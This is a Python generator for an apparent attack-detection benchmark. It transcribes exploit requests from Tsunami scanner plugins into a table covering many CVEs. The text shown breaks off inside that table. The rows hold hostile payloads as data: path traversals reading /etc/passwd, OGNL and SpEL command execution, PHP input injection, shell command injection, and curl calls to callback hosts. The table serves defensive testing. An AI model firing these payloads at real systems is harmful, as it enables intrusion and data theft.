#!/usr/bin/env python3
# Writes attacks.log, attacks.labels, requests.tsv, benign.log and benign.labels of
# tests/bench/data/thirdparty24 (fixed seeds: the output is byte-identical on every run).
# Python 3 standard library only, plus the `git` program to read the source repository.
# Written without reading policies/, user/, include/, bpf/, docs/, tests/unit, the repository
# README or the detector; gatehawk and tests/bench/recall.sh were not run.
#
# Angle of this set: the requests of Google's Tsunami security scanner detector plugins
# (google/tsunami-security-scanner-plugins, Apache-2.0).  Each plugin checks one
# vulnerability (a CVE, an exposed admin UI / API, an RCE-by-design service) over HTTP.  For
# each plugin the request that carries the exploit or probe was transcribed by hand from the
# plugin's source into REQUESTS below: the file, the line, a piece of text quoted from that
# line (gen.py stops unless the quote is on that line at COMMIT, so the table cannot drift),
# the method, the request target as the plugin builds it (placeholders filled from a fixed
# seed), where the payload sits (path, query, body, header) and the step of a multi-step
# plugin.  Templated plugins (textproto) are read the same way: the `uri:` line of the action
# that carries the payload.
#
#   python3 gen.py MIRROR            rewrites the five data files next to this script
#   python3 gen.py MIRROR --check    also checks the written files (exit 1 on a failure)
#   python3 gen.py --check-only      only the checks, on the files as they are
#   python3 gen.py MIRROR --pools    lists every detector plugin and whether it has rows
#
# MIRROR is the git directory of google/tsunami-security-scanner-plugins (bare or work tree),
# or a directory holding it as google+tsunami-security-scanner-plugins[/repo] (as /work/.mirror does).
import base64, collections, datetime, glob, hashlib, ipaddress, os, random, re, subprocess, sys, urllib.parse, uuid

OUT = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.normpath(os.path.join(OUT, '..', '..', '..', '..'))
REPO = 'google/tsunami-security-scanner-plugins'
COMMIT = 'a3b7a0a98f6eed6eff3d9f5450efef1e630a153f'   # 2026-07-01 "Extend the definition of templated plugins with additional information about the service."
LICENSE_BLOB = 'd645695673349e3947e8e5ae42332d0ac3164cd7'  # LICENSE: Apache License, Version 2.0 (the standard text)
FILL_SEED = 2026120924          # callback URLs, random tokens, model names, core names the plugins pick at run time
SEED = 2026120941               # addresses, times, statuses, user agents, benign traffic
DAY = datetime.datetime(2026, 12, 9, 0, 0, 0)
ATTACK_NET = ipaddress.ip_network('2001:db8:2e4b::/48')   # under 2001:db8:2e00::/40
BENIGN_NET = ipaddress.ip_network('2001:db8:2ed1::/48')
BLOCK = ipaddress.ip_network('2001:db8:2e00::/40')


def git_dir(root):
    for c in (root, os.path.join(root, 'repo'), os.path.join(root, 'google+tsunami-security-scanner-plugins', 'repo'),
              os.path.join(root, 'google+tsunami-security-scanner-plugins')):
        if os.path.isdir(c) and subprocess.run(['git', '-C', c, 'cat-file', '-e', COMMIT + '^{commit}'],
                                               capture_output=True).returncode == 0:
            return c
    sys.exit('no git directory holding %s under %s' % (COMMIT, root))

class Repo:
    def __init__(self, root):
        self.dir = git_dir(root)
        blob = self.git('rev-parse', '%s:LICENSE' % COMMIT).strip()
        if blob != LICENSE_BLOB:
            sys.exit('LICENSE blob %s, expected %s' % (blob, LICENSE_BLOB))
        self.files = self.git('ls-tree', '-r', '--name-only', COMMIT).split('\n')
        self.cache = {}
    def git(self, *a):
        return subprocess.run(['git', '-C', self.dir] + list(a), capture_output=True, check=True).stdout.decode('utf-8')
    def show(self, path):
        if path not in self.cache:
            self.cache[path] = self.git('show', '%s:%s' % (COMMIT, path))
        return self.cache[path]
    def resolve(self, name):
        """a plugin file named by its base name (unique under src/main or templated plugins)"""
        hits = [f for f in self.files if f.rsplit('/', 1)[-1] == name and
                ('/src/main/' in f or f.startswith('templated/templateddetector/plugins/'))]
        if len(hits) != 1:
            sys.exit('%s: %d files at the commit' % (name, len(hits)))
        return hits[0]
    def line(self, path, n):
        return self.show(path).split('\n')[n - 1]


# ----------------------------------------------------------------- the transcribed requests
# (file, line, quote from that line, method, request target, payload place, category, technique, step)
# target: '/' + what the plugin appends to the service root URL.  {LIT}: the string literal(s)
# on the quoted line; {CONST}: the Java constant starting on that line (literals concatenated
# up to the ';' or ',').  {CMD} Tsunami's command payload (no-callback `printf` form or `curl`
# to the callback URI, seeded), {CMDC} / {CMDP} always the curl / printf form, {CMDF} {CMD}
# form-encoded (URLEncoder), {CMD20} with spaces as %20, {CB} / {CBHOST} the callback URI
# (host:port/secret, no scheme); {UUID} {HEX8} {HEX32} {HEX40} {NAME} {NUM} {CORE} {MODEL}
# {PROJ} {SLURMV} {EPOCHMS} random or discovered values (FILL_SEED); other upper-case names are
# read from the plugins by derived().
# place: where the payload is: path, query, body, header (several joined by +).
# step: the plugin's action / method that sends it, or 'single' for a one-request plugin.
J = None  # marker for a Java row's default
REQUESTS = [
 # --- community/detectors
 ('Cve202326360Detector.java', 61, 'cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iedit.cfc?method=wizardHash', 'POST', '/{LIT}', 'path+body', 'cve-exploit', 'CVE-2023-26360', 'loop over VULNERABLE_REQUEST_PATHS, _variables body'),
 ('Cve202326360Detector.java', 62, 'CFIDE/wizards/common/utils.cfc?method=wizardHash', 'POST', '/{LIT}', 'path+body', 'cve-exploit', 'CVE-2023-26360', 'loop over VULNERABLE_REQUEST_PATHS, _variables body'),
 ('Cve202140539VulnDetector.java', 70, '"./RestAPI/LogonCustomization"', 'POST', '/{LIT}', 'path+body', 'auth-bypass', 'CVE-2021-40539', 'single (methodToCall=previewMobLogo body)'),
 ('Cve20248438Detector.java', 76, '"path=/etc/passwd"', 'GET', '/api/file?{LIT}', 'query', 'traversal', 'CVE-2024-8438', 'second request (after the title check)'),
 ('Cve20243104VulnDetector.java', 77, '"api/system/update-env"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2024-3104', 'step 1 of 3 (env update with the command)'),
 ('Cve202017526Detector.java', 185, 'admin/airflow/trigger?dag_id=example_trigger_target_dag', 'POST', '/{LIT}', 'header+body', 'auth-bypass', 'CVE-2020-17526', 'trigger with a forged session cookie, command in conf'),
 ('ExposedAirflowServerDetector.java', 188, '"api/v1/connections/test"', 'POST', '/{LIT}', 'body', 'exposed-ui', 'apache_airflow_exposed_ui', 'connection test to the callback URL (SSRF)'),
 ('Cve202224112Detector.java', 69, '"apisix/batch-requests"', 'POST', '/{LIT}', 'body', 'cve-exploit', 'CVE-2022-24112', 'batch request carrying the route with the filter_func'),
 ('ApacheDefaultTokenDetector.java', 76, '"apisix/admin/routes"', 'POST', '/{LIT}', 'header+body', 'default-credentials', 'apache_apisix_default_token', 'route creation (Lua script) with the default X-API-KEY (sendAsIs)'),
 ('ApacheDefaultTokenDetector.java', 151, '"?cmd="', 'GET', '/tsunami_{EPOCHMS}?cmd={CMDF}', 'query', 'default-credentials', 'apache_apisix_default_token', 'call of the created route with the command'),
 ('ApacheDruidPreAuthRCECVE202125646VulnDetector.java', 65, '"druid/indexer/v1/sampler"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2021-25646', 'single (JavaScript filter in the JSON body)'),
 ('ApacheHttpServerCVE202141773VulnDetector.java', 83, '"/%2e%2e/%2e%2e/%2e%2e', 'GET', '/cgi-bin{CONST}', 'path', 'traversal', 'CVE-2021-41773', 'common directory x payload (sendAsIs: sent as written)'),
 ('ApacheHttpServerCVE202141773VulnDetector.java', 85, '"/%%32%65%%32%65/%%32%65', 'GET', '/icons{CONST}', 'path', 'traversal', 'CVE-2021-42013', 'common directory x payload (sendAsIs: sent as written)'),
 ('ApacheSolrArbitraryFileReadingDetector.java', 234, '"/debug/dump?param=ContentStreams&stream.url=file:///etc/passwd"', 'GET', '/solr/{CORE}{LIT}', 'query', 'traversal', 'apache_solr_arbitrary_file_reading', 'after enabling remote streaming in the core config'),
 ('ApacheSolrArbitraryFileReadingDetector.java', 188, '"solr/"', 'POST', '/solr/{CORE}/config', 'body', 'cve-exploit', 'apache_solr_arbitrary_file_reading', 'config change (requestDispatcher.requestParsers.enableRemoteStreaming)'),
 ('Cve202233891VulnDetector.java', 129, '"?doAs=`"', 'GET', '/?doAs=`{CMDC}`', 'query', 'rce', 'CVE-2022-33891', 'single'),
 ('ExposedArgoCdApiDetector.java', 316, '"api/v1/applications?upsert=true"', 'POST', '/{LIT}', 'body', 'exposed-ui', 'argocd_exposed_ui', 'application creation from the jsonnet payload repo'),
 ('ExposedArgoWorkflowsDetector.java', 142, '"/api/v1/workflows/default"', 'POST', '/api/v1/workflows/default', 'body', 'exposed-ui', 'argoworkflows_exposed_ui', 'workflow creation with the curl container'),
 ('Cve202322518VulnDetector.java', 69, '"json/setup-restore.action"', 'POST', '/{LIT}', 'header+body', 'auth-bypass', 'CVE-2023-22518', 'multipart zip upload with X-Atlassian-Token: no-check'),
 ('ExposedAutoGptApiDetector.java', 159, '"ap/v1/agent/tasks"', 'POST', '/{LIT}', 'body', 'exposed-ui', 'autogpt_exposed_ui', 'task creation with the command'),
 ('Cve20221388VulnDetector.java', 65, '"mgmt/tm/util/bash"', 'POST', '/{LIT}', 'header+body', 'auth-bypass', 'CVE-2022-1388', 'single (Connection: X-F5-Auth-Token, basic admin:, run command)'),
 ('Cve202236804VulnDetector.java', 195, '"?format=zip&prefix=123%00--exec="', 'GET', '/rest/api/latest/projects/{PROJ}/repos/{NAME}/archive?format=zip&prefix=123%00--exec=sh -c "{CMD}"%00--remote=git@g.com/a/b', 'query', 'rce', 'CVE-2022-36804', 'archive request of a public repo found first'),
 ('AtlassianConfluencePreAuthOgnlInjectionDetector.java', 108, '"pages/doenterpagevariables.action"', 'POST', '/{LIT}', 'body', 'cve-exploit', 'CVE-2021-26084', 'single (queryString OGNL in the body)'),
 ('Cve20250655VulnDetector.java', 79, '/dtale/test-filter/{{DATA_ID}}?query={{ENCODED_PAYLOAD}}&save=true', 'GET', '/dtale/test-filter/{NUM}?query={DTALEQ}&save=true', 'query', 'rce', 'CVE-2025-0655', 'step 3 (after the upload and the settings change)'),
 ('FlowiseAuthBypassDetector.java', 142, '"api/v1/account/forgot-password"', 'POST', '/{LIT}', 'body', 'auth-bypass', 'CVE-2025-58434', 'forgot-password with a known user e-mail'),
 ('FlowiseExposedUiDetector.java', 109, '"api/v1/apikey"', 'GET', '/{LIT}', 'header', 'exposed-ui', 'flowise_exposed_ui', 'API key listing with x-request-from: internal'),
 ('GeoserverCve202436401VulnDetector.java', 75, '%sgeoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames', 'GET', '/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),\'{CMD}\')', 'query', 'rce', 'CVE-2024-36401', 'single'),
 ('Cve202122205VulnDetector.java', 68, '"uploads/user"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2021-22205', 'multipart DjVu upload (after users/sign_in for the CSRF token)'),
 ('Cve20230669VulnDetector.java', 53, '"goanywhere/lic/accept"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2023-0669', 'single (serialized bundle in the body)'),
 ('GoCDArbitraryFileReadingDetector.java', 62, '"?folderName=&pluginName=../../', 'GET', '/go/add-on/business-continuity/api/plugin{LIT}', 'query', 'traversal', 'gocd_arbitrary_file_reading', 'single'),
 ('Cve202351449VulnDetector.java', 81, '"file="', 'GET', '/{LIT}/tmp/gradio/{HEX40}/../../../../etc/passwd', 'path', 'traversal', 'CVE-2023-51449', 'after the upload that returns the temp file path'),
 ('Cve20241728VulnDetector.java', 69, '"queue/join?"', 'POST', '/{LIT}', 'body', 'traversal', 'CVE-2024-1728', 'queue join with the file path in the body'),
 ('GrafanaArbitraryFileReadingDetector.java', 68, '"public/plugins/{plugin}/..%2F..%2F..%2F..%2F.."', 'GET', '/{GRAFANA}', 'path', 'traversal', 'CVE-2021-43798', 'loop over PLUGINS'),
 ('Cve201920933VulnDetector.java', 69, '"query"', 'POST', '/{LIT}', 'header+body', 'auth-bypass', 'CVE-2019-20933', 'show users with an empty-secret JWT in Authorization'),
 ('Cve202422476VulnDetector.java', 74, '"task/submit/"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2024-22476', 'task with the command in the script URL'),
 ('Cve202423897Detector.java', 74, '"cli?remoting=false"', 'POST', '/{LIT}', 'header+body', 'traversal', 'CVE-2024-23897', 'upload side with connect-node @/etc/passwd'),
 ('Cve20220540VulnDetector.java', 69, '"secure/InsightPluginUpdateGeneralConfiguration.jspa;"', 'GET', '/{LIT}', 'path', 'auth-bypass', 'CVE-2022-0540', 'single'),
 ('Cve20220540VulnDetector.java', 71, '"secure/WBSGanttManageScheduleJobAction.jspa;"', 'GET', '/{LIT}', 'path', 'auth-bypass', 'CVE-2022-0540', 'single'),
 ('Cve202323752VulnDetector.java', 137, '"api/index.php/v1/config/application?public=true"', 'GET', '/{LIT}', 'query', 'info-disclosure', 'CVE-2023-23752', 'single'),
 ('KubeflowRceDetector.java', 264, '"pipeline/apis/v2beta1/pipelines/upload?name=%s&description=&namespace=%s"', 'POST', '/pipeline/apis/v2beta1/pipelines/upload?name=tsunami-{HEX8}&description=&namespace=kubeflow-user-example-com', 'body', 'exposed-ui', 'kubeflow_exposed_ui_rce', 'pipeline upload (command in the pipeline YAML)'),
 ('Cve20213129VulnDetector.java', 65, '"_ignition/execute-solution"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2021-3129', 'single (viewFile phar payload in the JSON body)'),
 ('LocalAiCve20242029RceDetector.java', 201, '"v1/audio/transcriptions"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2024-2029', 'multipart with the traversal file name'),
 ('MetabaseCve202141277Detector.java', 108, '"api/geojson?url=file:///etc/passwd"', 'GET', '/{LIT}', 'query', 'traversal', 'CVE-2021-41277', 'single'),
 ('Cve202338646Detector.java', 68, '"api/setup/validate"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2023-38646', 'H2 JDBC URL with the command, after api/session/properties'),
 ('Cve202328432VulnDetector.java', 102, '"minio/bootstrap/v1/verify"', 'POST', '/{LIT}', 'path', 'info-disclosure', 'CVE-2023-28432', 'single (empty POST)'),
 ('Cve20236014VulnDetector.java', 60, '"api/2.0/mlflow/users/create"', 'POST', '/{LIT}', 'body', 'auth-bypass', 'CVE-2023-6014', 'user creation, random username/password in the body'),
 ('Cve20241483Detector.java', 154, '"model-versions/get-artifact?path=passwd&name="', 'GET', '/model-versions/get-artifact?path=passwd&name={MODEL}&version=1', 'query', 'traversal', 'CVE-2024-1483', 'read after the experiment / model / version creation'),
 ('Cve20242928VulnDetector.java', 84, '"model-versions/get-artifact?path=passwd&name=poc&version=1"', 'GET', '/{LIT}', 'query', 'traversal', 'CVE-2024-2928', 'read after the model version with a file:// source'),
 ('Cve20246983VulnDetector.java', 88, '"models/apply"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2024-6983', 'model apply with the uploaded config'),
 ('Cve202129441VulnDetector.java', 66, '"nacos/v1/auth/users/?pageNo=1&pageSize=9"', 'GET', '/{LIT}', 'header', 'auth-bypass', 'CVE-2021-29441', 'single (User-Agent: Nacos-Server)'),
 ('ExposedOllamaApiServerDetector.java', 140, '"api/ps"', 'GET', '/{LIT}', 'path', 'exposed-ui', 'ollama_exposed_api', 'running-model listing'),
 ('PapercutNgMfVulnDetector.java', 132, '"direct/1/SetupCompleted/$Form"', 'POST', '/app', 'body', 'auth-bypass', 'CVE-2023-27350', 'SetupCompleted form (service= in the body)'),
 ('PapercutNgMfVulnDetector.java', 147, '"service=direct/1/PrinterList/selectPrinter&sp=l1001"', 'GET', '/app?{LIT}', 'query', 'auth-bypass', 'CVE-2023-27350', 'printer list after the bypass'),
 ('ApacheSparksExposedApiVulnDetector.java', 55, '"v1/submissions/create"', 'POST', '/{LIT}', 'body', 'exposed-ui', 'apache_spark_exposed_api', 'submission with the callback jar URL'),
 ('Cve201712617Detector.java', 86, '"%s.jsp"', 'PUT', '/{UUID}.jsp/', 'path+body', 'rce', 'CVE-2017-12617', 'JSP upload (trailing slash)'),
 ('Cve202135464Detector.java', 65, '"openam/oauth2/..;/ccversion/Version?jato.pageSession="', 'GET', '/{LIT}{OPENAMB64}', 'path+query', 'rce', 'CVE-2021-35464', 'serialized payload.b64 in jato.pageSession'),
 ('Cve20244577Detector.java', 86, '"?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"', 'POST', '/{LIT}', 'query+body', 'rce', 'CVE-2024-4577', 'single (PHP code in the body)'),
 ('Cve202231137Detector.java', 67, '"app/options.py"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2022-31137', 'ipbackend command injection in the body'),
 ('SlurmExposedRestApiDetector.java', 176, '"slurm/%s/job/submit"', 'POST', '/slurm/{SLURMV}/job/submit', 'body', 'exposed-ui', 'slurm_exposed_rest_api', 'job submission, version read from openapi/v3'),
 ('Cve202222963VulnDetector.java', 62, '"functionRouter"', 'POST', '/{LIT}', 'header', 'rce', 'CVE-2022-22963', 'single (SpEL in spring.cloud.function.routing-expression)'),
 ('Cve202222947VulnDetector.java', 69, '"actuator/gateway/routes/"', 'POST', '/{LIT}tsunami{HEX8}', 'body', 'rce', 'CVE-2022-22947', 'route creation with the SpEL filter'),
 ('SpringCve202222965Detector.java', 77, '"class.module.classLoader.DefaultAssertionStatus"', 'GET', '/?{LIT}=1', 'query', 'cve-exploit', 'CVE-2022-22965', 'preliminary check (=1, then =2)'),
 ('Cve202322893VulnDetector.java', 70, '"api/auth/cognito/callback?access_token=something&id_token=', 'GET', '/{LIT}', 'query', 'auth-bypass', 'CVE-2023-22893', 'single'),
 ('TritonInferenceServerRceVulnDetector.java', 232, '"v2/repository/models/%s/load"', 'POST', '/v2/repository/models/{MODEL}/load', 'body', 'exposed-ui', 'triton_inference_server_model_overwrite', 'model config overwrite with the Python backend payload'),
 ('UptrainExposedApiDetector.java', 182, '"api/public/create_project"', 'POST', '/{LIT}', 'body', 'exposed-ui', 'uptrain_exposed_api', 'project creation with the eval code'),
 ('Cve202014882VulnDetector.java', 72, '"console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=HomePage1"', 'GET', '/{LIT}', 'path+query', 'auth-bypass', 'CVE-2020-14882', 'single'),
 ('Cve202229464VulnDetector.java', 78, '"fileupload/toolsAny"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2022-29464', 'multipart with a ../../../../repository/deployment/server/webapps/ file name'),
 ('Cve202421650Detector.java', 52, '"bin/register/XWiki/XWikiRegister"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2024-21650', 'registration with the groovy first name'),
 ('Cve20199670Detector.java', 123, '"Autodiscover/Autodiscover.xml"', 'POST', '/{LIT}', 'body', 'xxe', 'CVE-2019-9670', 'XXE reading localconfig.xml'),
 # --- doyensec/detectors
 ('Cve20146271Detector.java', 106, '"cgi-bin/status"', 'GET', '/{LIT}', 'header', 'rce', 'CVE-2014-6271', 'loop over TARGET_PATHS (payload in Referer, Cookie, ShellShock headers)'),
 ('Cve20146271Detector.java', 112, '"cgi-bin/test-cgi"', 'GET', '/{LIT}', 'header', 'rce', 'CVE-2014-6271', 'loop over TARGET_PATHS (payload in Referer, Cookie, ShellShock headers)'),
 ('ComfyUiFileReadViaFilename.java', 113, '"api/manager/queue/install_model"', 'POST', '/{LIT}', 'body', 'traversal', 'comfyui_arbitrary_read_filename', 'install_model with the traversal filename'),
 ('ComfyUiFileReadViaSavePath.java', 113, '"api/manager/queue/install_model"', 'POST', '/{LIT}', 'body', 'traversal', 'comfyui_arbitrary_read_savepath', 'install_model with the traversal save_path'),
 ('ComfyUiExposedUi.java', 79, '"api/system_stats"', 'GET', '/{LIT}', 'path', 'exposed-ui', 'comfyui_exposed_ui_detector', 'system stats'),
 ('ComfyUiRemoteCodeExecution.java', 99, '"api/manager/queue/install"', 'POST', '/{LIT}', 'body', 'rce', 'comfyui_preauth_rce', 'custom node install from a git URL'),
 ('ApacheSolrCve20190192.java', 96, '"solr/REPLACE/config"', 'POST', '/solr/{CORE}/config', 'body', 'rce', 'CVE-2019-0192', 'set-property jmx.serviceUrl to the callback RMI URL'),
 ('CredentialsDisclosureInGrafanaZabbixIntegrationDetector.java', 103, '"/login?redirect=%2F"', 'GET', '//login?redirect=%2F', 'query', 'info-disclosure', 'grafana_zabbix_credential_disclosure', 'page read for the datasource credentials (root URL + path: double slash)'),
 ('RCEInKubernetesClusterWithOpenAccessDetector.java', 225, '"api/v1/namespaces/default/pods"', 'POST', '/{LIT}', 'body', 'exposed-ui', 'kubernetes_rce_via_open_access', 'pod creation with the curl command'),
 ('LangflowExposedUiDetector.java', 70, '"api/v1/custom_component"', 'POST', '/{LIT}', 'body', 'exposed-ui', 'langflow_exposed_ui_detector', 'custom component with the Python code'),
 ('MagentoCosmicStingXxe.java', 114, '"rest/all/V1/guest-carts/test-assetnote/estimate-shipping-methods"', 'POST', '/{LIT}', 'body', 'xxe', 'CVE-2024-34102', 'JSON body carrying the DTD URL'),
 ('TorchServeExploiter.java', 554, '"/models"', 'POST', '/models?url=http://{CBHOST}.mar&model_name={NAME}', 'query', 'exposed-ui', 'torchserve_management_api', 'model registration from the callback URL'),
 ('RCEViaExposedSeleniumGridDetector.java', 331, '"/session"', 'POST', '/wd/hub/session', 'body', 'exposed-ui', 'selenium_grid_rce_via_exposed_server', 'session with the Chrome binary/args payload'),
 # --- google/detectors
 ('MantisBTAuthenticationBypassDetector.java', 118, '"verify.php?id=1&confirm_hash="', 'GET', '/{LIT}', 'query', 'auth-bypass', 'CVE-2017-7615', 'single'),
 ('WordpressCredentialTester.java', 94, '"wp-login.php"', 'POST', '/wp-login.php', 'body', 'default-credentials', 'generic_weak_credential_detector WordPress', 'login form with a default credential'),
 ('TomcatHttpCredentialTester.java', 88, '"manager/html"', 'GET', '/manager/html', 'header', 'default-credentials', 'generic_weak_credential_detector Tomcat', 'Basic authorization with a default credential'),
 ('Cve202017519Detector.java', 61, '"..%252f..%252f..%252f.."', 'GET', '/jobmanager/logs/{CONST}', 'path', 'traversal', 'CVE-2020-17519', 'single'),
 ('NodeRedDashboardDirectoryTraversalDetector.java', 112, '"ui_base/js/..%2f"', 'GET', '/{LIT}settings.js', 'path', 'traversal', 'CVE-2021-3223', 'settings.js read'),
 ('ApacheNiFiApiExposedUiDetector.java', 59, '"nifi-api/access/config"', 'GET', '/{LIT}', 'path', 'exposed-ui', 'apache_nifi_api', 'single'),
 ('DockerExposedUiDetector.java', 119, '"version"', 'GET', '/{LIT}', 'path', 'exposed-ui', 'docker_exposed_api', 'single'),
 ('DrupalExposedInstallationDetector.java', 108, '"/install.php?langcode=en&profile=standard&continue=1&locale=en"', 'GET', '/{LIT}', 'path+query', 'exposed-ui', 'drupal_install', 'single (root URL + path: double slash)'),
 ('YarnExposedManagerApiDetector.java', 277, '"ws/v1/cluster/apps"', 'POST', '/{LIT}', 'body', 'exposed-ui', 'hadoop_yarn_exposed_api', 'application submission with the command'),
 ('JenkinsExposedUiDetector.java', 125, '"view/all/newJob"', 'GET', '/{LIT}', 'path', 'exposed-ui', 'jenkins_exposed_ui', 'single'),
 ('JupyterExposedUiDetector.java', 111, '"terminals/1"', 'GET', '/{LIT}', 'path', 'exposed-ui', 'jupyter_exposed_ui', 'single'),
 ('KubernetesApiExposedDetector.java', 102, '"api/v1/pods"', 'GET', '/{LIT}', 'path', 'exposed-ui', 'kubernetes_api_exposed', 'single'),
 ('PHPUnitExposedEvalStdinDetector.java', 70, '"vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"', 'POST', '/{LIT}', 'path+body', 'rce', 'CVE-2017-9841', 'single (PHP code in the body)'),
 ('PytorchServeExposedApiDetector.java', 144, '"%smodels?url=http://%s/%s"', 'POST', '/models?url=http://{CBHOST}/model.mar', 'query', 'exposed-ui', 'pytorch_serve_exposed_api', 'model registration from the callback URL'),
 ('SpringBootExposedEndpointDetector.java', 155, '.addPathSegments("heapdump")', 'GET', '/actuator/heapdump', 'path', 'info-disclosure', 'spring_boot_exposed_actuator', 'prefix /actuator/ (HEAD in the plugin for some checks; GET logged)'),
 ('WordPressInstallPageDetector.java', 122, '"wp-admin/install.php?step=1"', 'GET', '/{LIT}', 'path+query', 'exposed-ui', 'wordpress_install', 'single'),
 ('Cve202348022Detector.java', 120, '"api/jobs/"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2023-48022', 'job submission with the entrypoint command'),
 ('Cve20236019Detector.java', 133, '"worker/cpu_profile?pid=1&duration=5&native=0&format=`"', 'GET', '/{LIT}{CMD}`', 'query', 'rce', 'CVE-2023-6019', 'single'),
 ('ConfluenceOgnlInjectionRceDetector.java', 151, '"%%24%%7B%%40java.lang.Runtime%%40getRuntime', 'GET', '/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22{CMD20}%22%29%7D/', 'path', 'cve-exploit', 'CVE-2022-26134', 'Runtime.exec OGNL in the path'),
 ('ConsulEnableScriptChecksCommandExecutionDetector.java', 106, '"v1/agent/service/register"', 'PUT', '/{LIT}', 'body', 'exposed-ui', 'consul_script_checks_rce', 'service registration with the script check'),
 ('Cve20121823Detector.java', 61, '"?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"', 'POST', '/{LIT}', 'query+body', 'rce', 'CVE-2012-1823', 'single (PHP code in the body)'),
 ('JenkinsCliDeserializeRceDetector.java', 133, 'rootUrl + "cli"', 'POST', '/cli', 'header+body', 'rce', 'CVE-2017-1000353', 'upload side with the serialized SignedObject'),
 ('ApacheStrutsInsecureDeserializeDetector.java', 136, 'buildWebApplicationRootUrl(networkService)', 'POST', '/', 'body', 'rce', 'CVE-2017-9805', 'XStream XML to the root URL'),
 ('ApacheStrutsNamespaceRceDetector.java', 72, '"${\'tsunami-\' + \'detected-\' + \'cve20181776-eipnop\'}"', 'POST', '/{STRUTSNS}/help', 'path', 'cve-exploit', 'CVE-2018-11776', 'loop over DEFAULT_APACHE_STRUT_ACTIONS (URLEncoder-encoded OGNL namespace)'),
 ('ApacheStrutsNamespaceRceDetector.java', 78, '"login"', 'POST', '/{STRUTSNS}/login', 'path', 'cve-exploit', 'CVE-2018-11776', 'loop over DEFAULT_APACHE_STRUT_ACTIONS (URLEncoder-encoded OGNL namespace)'),
 ('DrupalCve20187600Detector.java', 70, '"user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax"', 'POST', '/{LIT}', 'query+body', 'cve-exploit', 'CVE-2018-7600', 'single (mail[#markup] in the body)'),
 ('Cve20196340Detector.java', 65, '"node/?_format=hal_json"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2019-6340', 'single (serialized link in the hal+json body)'),
 ('TeamCityAuthBypassDetector.java', 70, '"app/rest/users/id:1/tokens/RPC2"', 'POST', '/{LIT}', 'path', 'auth-bypass', 'CVE-2023-42793', 'token creation'),
 ('TeamCityAuthBypassDetector.java', 75, '"app/rest/debug/processes?exePath=curl&params="', 'POST', '/{LIT}http://{CB}', 'query+header', 'rce', 'CVE-2023-42793', 'debug process (curl to the callback) with the stolen token'),
 ('Cve202432113Detector.java', 110, '"webtools/control/forgotPassword/foo/../ProgramExport"', 'POST', '/{LIT}', 'path+body', 'rce', 'CVE-2024-32113', 'groovyProgram in the body'),
 ('JoomlaRustyRCEDetector.java', 66, '"index.php/component/users"', 'POST', '/{LIT}', 'body', 'rce', 'joomla_rusty_rce', 'login with the null-byte username and PHP in password'),
 ('PortalCve20207961Detector.java', 69, '"api/jsonws/expandocolumn/add-column"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2020-7961', 'defaultData with the serialized object'),
 ('SolrVelocityTemplateRceDetector.java', 189, '"/select?q=1&&wt="', 'GET', '/solr/{CORE}/select?q=1&&wt=velocity&v.template=custom&v.template.custom={VELOCITY}', 'query', 'rce', 'CVE-2019-17558', 'after enabling params.resource.loader in the core config'),
 ('VBulletinCve201916759Detector.java', 108, '"?routestring=ajax%2Frender%2Fwidget_php&widgetConfig[code]=echo"', 'GET', "/?routestring=ajax%2Frender%2Fwidget_php&widgetConfig[code]=echo md5('TsunamiSecurityScanner'); exit;", 'query', 'rce', 'CVE-2019-16759', 'single'),
 ('WebLogicAdminConsoleRceDetector.java', 65, 'console/images/.%%252e/console.portal?_nfpb=true&_pageLable=&handle=com.tangosol', 'GET', '/console/images/.%252e/console.portal?_nfpb=true&_pageLable=&handle=com.tangosol.coherence.mvel2.sh.ShellSession({WLEXPR});', 'path+query', 'rce', 'CVE-2020-14883', 'single'),
 ('Cve202431982Detector.java', 61, '"bin/get/Main/DatabaseSearch?outputSyntax=plain&text="', 'GET', '/{LIT}{XWIKIP}', 'query', 'rce', 'CVE-2024-31982', 'subpath ""'),
 ('Cve202431982Detector.java', 55, '"xwiki/"', 'GET', '/xwiki/bin/get/Main/DatabaseSearch?outputSyntax=plain&text={XWIKIP}', 'query', 'rce', 'CVE-2024-31982', 'subpath "xwiki/"'),
 ('SolrVelocityTemplateRceDetector.java', 155, '+ "solr/" + core + "/config"', 'POST', '/solr/{CORE}/config', 'body', 'rce', 'CVE-2019-17558', 'config change (params.resource.loader.enabled)'),
 ('Cve202348022Detector.java', 119, '"api/job_agent/jobs/"', 'POST', '/{LIT}', 'body', 'rce', 'CVE-2023-48022', 'job submission (job agent endpoint) with the entrypoint command'),
 ('Cve20241483Detector.java', 265, '"ajax-api/2.0/mlflow/model-versions/create"', 'POST', '/{LIT}', 'body', 'traversal', 'CVE-2024-1483', 'model version with the traversal source'),
 ('Cve20242928VulnDetector.java', 71, '"ajax-api/2.0/mlflow/model-versions/create"', 'POST', '/{LIT}', 'body', 'traversal', 'CVE-2024-2928', 'model version with the file:// source'),
 ('ConfluenceOgnlInjectionRceDetector.java', 177, '"%%24%%7B%%28%%23a%%3D%%40org.apache.commons.io.IOUtils', 'GET', '/{CONF2}', 'path', 'cve-exploit', 'CVE-2022-26134', 'no-callback variant (output in the x-cmd-response header)'),
